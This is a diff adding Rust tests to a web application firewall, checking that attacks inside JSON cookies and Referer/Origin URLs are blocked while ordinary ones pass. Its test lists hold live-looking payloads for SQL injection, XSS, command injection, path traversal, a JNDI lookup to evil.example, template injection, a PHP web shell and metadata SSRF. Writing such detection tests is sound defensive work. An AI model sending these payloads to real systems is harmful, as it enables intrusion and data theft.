@@ -8,8 +8,9 @@
 mod common;
 
 use common::{
-    assert_header, assert_placed, assert_queries, every_place_but, form_blocked, inspect_with,
-    json_blocked, multipart_blocked, query_blocked, verdict, Place, EVERY_PLACE,
+    assert_header, assert_placed, assert_queries, every_place_but, form_blocked, header_blocked,
+    inspect_with, json_blocked, multipart_blocked, percent_encode, query_blocked, verdict, Place,
+    EVERY_PLACE,
 };
 use rampart_waf::Policy;
 
@@ -1053,6 +1054,194 @@ fn jwt_claims_past_many_strings() {
     ];
     assert_tokens(true, &attacks);
     assert_tokens(false, &[jwt(&format!(r#"{{{many}"sub":"alice"}}"#))]);
+}
+
+/// Session 11: a cookie whose value is strictly a JSON document (raw or
+/// percent-encoded, `consent=%7B%22ads%22%3Afalse%7D`) is read by its
+/// structure — each key and string a field — instead of as one text. An
+/// attack of every family still blocks wherever it sits in such a cookie:
+/// in a string, in a key, nested, and breaking out of the structure (which
+/// makes the document not strict JSON, so the value is read whole).
+#[test]
+fn attacks_inside_a_json_cookie_are_read_in_keys_values_and_break_outs() {
+    let attacks = [
+        "' OR '1'='1' --",
+        "1 UNION SELECT password FROM users",
+        "<script>alert(document.cookie)</script>",
+        "<img src=x onerror=alert(1)>",
+        "$(cat /etc/passwd)",
+        "../../../../etc/passwd",
+        "${jndi:ldap://evil.example/a}",
+        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+        "*)(uid=*))(|(uid=*",
+        "x\r\nSet-Cookie: admin=1",
+        "http://169.254.169.254/latest/meta-data/",
+        "__proto__",
+        "java.lang.Runtime",
+    ];
+    let cookie = |v: &str| header_blocked("Cookie", format!("theme=dark; c={v}").as_bytes());
+    let mut passed = Vec::new();
+    for a in attacks {
+        let s = serde_json::to_string(a).unwrap();
+        let mut shapes = vec![
+            format!("{{\"a\":{s}}}"),
+            format!("{{{s}:1}}"),
+            format!("{{\"ads\":false,\"n\":{{\"b\":[1,{s}]}}}}"),
+            format!("[{s},true]"),
+            // Break-outs: the attack's own quote or text after the document.
+            format!("{{\"a\":\"x\"}}{a}"),
+            format!("{{\"a\":\"{a}\"}}"),
+        ];
+        if !a.contains(';') {
+            shapes.push(format!("{{\"a\":{s}}}"));
+        }
+        for (i, shape) in shapes.iter().enumerate() {
+            // Percent-encoded as browsers' consent managers do; the last
+            // shape also raw.
+            let raw = i == 6;
+            let v = if raw {
+                shape.clone()
+            } else {
+                percent_encode(shape)
+            };
+            if !cookie(&v) {
+                passed.push(v);
+            }
+        }
+    }
+    assert!(passed.is_empty(), "passed: {passed:#?}");
+    // NoSQL operators and prototype pollution as keys of an object.
+    for shape in [
+        "{\"user\":{\"$ne\":null}}",
+        "{\"$where\":\"sleep(5000)\"}",
+        "{\"constructor\":{\"prototype\":{\"admin\":true}}}",
+    ] {
+        assert!(cookie(&percent_encode(shape)), "{shape}");
+    }
+    // Read by structure (the match names the JSON path), not whole.
+    let cookie = percent_encode("{\"a\":\"<script>alert(1)</script>\"}");
+    assert_blocked_at("Cookie", &cookie, "cookie:$.a");
+}
+
+/// Session 11: JSON cookies of consent managers, analytics and shops pass.
+#[test]
+fn benign_json_cookies_pass() {
+    for shape in [
+        "{\"ads\":false,\"stats\":true}",
+        "{\"necessary\":true,\"analytics\":false,\"marketing\":false,\"rev\":3,\"consent_date\":\"2024-08-06T18:01:19.234Z\"}",
+        "{\"cart\":[{\"sku\":\"SKU-00012\",\"qty\":2,\"name\":\"Trail running shoe, model 3\"}],\"currency\":\"EUR\"}",
+        "[\"de\",\"en-US\",\"fr\"]",
+        "{\"path\":\"/shop/shoes?color=red&size=42\",\"ts\":1700000000}",
+    ] {
+        let v = percent_encode(shape);
+        assert!(
+            !header_blocked("Cookie", format!("c={v}").as_bytes()),
+            "{shape}"
+        );
+    }
+}
+
+/// Session 11: a Referer (or Origin) that strictly is an absolute http(s)
+/// URL is read as the request's own target is — its path as a path, its
+/// query's names and values as arguments — and its path also by the
+/// header's own rules, instead of as one header text. An attack of every
+/// family the header's rules read still blocks in its query values and
+/// names, in its path, and breaking out of the URL grammar (a blank, a raw
+/// `<`, quote or brace, a fragment: then the value is read whole, as
+/// before). LDAP and SSRF payloads, which no header rule reads, now block
+/// in a referer's query (read as arguments); in its path they pass, as
+/// before.
+#[test]
+fn attacks_inside_a_referer_url_are_read_in_query_path_and_break_outs() {
+    let attacks = [
+        "' OR '1'='1' --",
+        "1' UNION SELECT password FROM users--",
+        "<script>alert(document.cookie)</script>",
+        "<img src=x onerror=alert(1)>",
+        "$(cat /etc/passwd)",
+        ";cat /etc/passwd",
+        "../../../../etc/passwd",
+        "${jndi:ldap://evil.example/a}",
+        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+        "x\r\nSet-Cookie: admin=1",
+        "java.lang.Runtime.getRuntime().exec('id')",
+        "<?php system($_GET['c']); ?>",
+    ];
+    let mut passed = Vec::new();
+    let mut check = |header: &str, url: String| {
+        if !header_blocked(header, url.as_bytes()) {
+            passed.push(format!("{header}: {url}"));
+        }
+    };
+    for a in attacks {
+        let e = percent_encode(a);
+        let read_by_structure = [
+            format!("https://shop.example.com/catalog?q={e}&page=2"),
+            format!("https://shop.example.com/?{e}=1"),
+            format!("http://shop.example.com:8080/a/{e}/b"),
+            format!("https://shop.example.com/{e}"),
+        ];
+        for url in read_by_structure {
+            check("Referer", url.clone());
+            check("Origin", url);
+        }
+        // Break-outs: the attack's own bytes, outside the URL grammar.
+        for url in [
+            format!("https://shop.example.com/catalog?q={a}"),
+            format!("https://shop.example.com/{a}"),
+            format!("https://shop.example.com/#{a}"),
+            format!("https://shop.example.com/ {a}"),
+        ] {
+            check("Referer", url);
+        }
+    }
+    // A line break, escaped once or twice, in a referer's query: read whole
+    // (the header's CRLF rule decodes and reads it; no argument rule reads
+    // a bare `Foo: bar` line).
+    for q in ["a=%0d%0aFoo:%20bar", "a=x%0AFoo:bar", "a=%250d%250aFoo:bar"] {
+        check("Referer", format!("https://shop.example.com/?{q}"));
+    }
+    for a in [
+        "*)(uid=*))(|(uid=*",
+        "http://169.254.169.254/latest/meta-data/",
+    ] {
+        let url = format!("https://shop.example.com/catalog?q={}", percent_encode(a));
+        check("Referer", url);
+    }
+    assert!(passed.is_empty(), "passed: {passed:#?}");
+    // Read by structure (the match names the URL's part), not whole.
+    let url = "https://shop.example.com/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
+    assert_blocked_at("Referer", url, "referer-args:q");
+}
+
+/// Asserts that a `GET /` with one header is blocked, every match at
+/// `target`.
+fn assert_blocked_at(header: &str, value: &str, target: &str) {
+    let h = [("Host", &b"shop.example"[..]), (header, value.as_bytes())];
+    let v = inspect_with(&Policy::default(), "GET", "/", "", &h, b"");
+    assert!(
+        v.block && v.matches.iter().all(|m| m.target == target),
+        "{v:?}"
+    );
+}
+
+/// Session 11: referers and origins browsers send pass.
+#[test]
+fn benign_referers_pass() {
+    assert_header(
+        "Referer",
+        false,
+        &[
+            "https://shop.example.com/catalog/shoes?color=red&size=42",
+            "https://www.google.com/",
+            "https://www.google.com/search?q=trail+running+shoes&oq=trail+running&sourceid=chrome&ie=UTF-8",
+            "https://shop.example.com/checkout?step=2&return_to=%2Fcart&utm_source=newsletter&utm_medium=email",
+            "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2Fsale&h=AT0abc",
+            "http://[2001:db8::1]:8443/admin/users?sort=name&dir=asc",
+            "https://de.wikipedia.org/wiki/K%C3%A4se_(Lebensmittel)",
+        ],
+    );
+    assert_header("Origin", false, &["https://shop.example.com", "null"]);
 }
 
 /// Session 11: a backslash before a quote, read as MySQL reads it (it
